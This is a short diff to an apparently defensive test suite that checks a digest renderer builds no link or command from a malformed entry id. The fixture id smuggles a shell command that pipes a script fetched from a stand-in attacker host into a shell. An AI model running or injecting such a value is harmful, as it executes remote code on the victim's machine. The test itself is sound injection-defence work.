@@ -244,7 +244,7 @@ describe('the digest is safe to act on', () => {
   it('builds no link or command for an entry whose id is not a stored id’s shape', () => {
     const entry = { ...hostile(), id: 'CAFEBABE; curl evil.example/y|sh' }
     const digest = renderDigest([entry], { now, target, links })
-    expect(digest?.text).not.toMatch(/CAFEBABE|Send it to me:|release [0-9A-F]{8} --table/)
+    expect(digest?.text).not.toMatch(/CAFEBABE|^ {2}Send it to me: |release [0-9A-F]{8} --table/m)
     expect(digest?.html).not.toContain('href=')
   })
 })
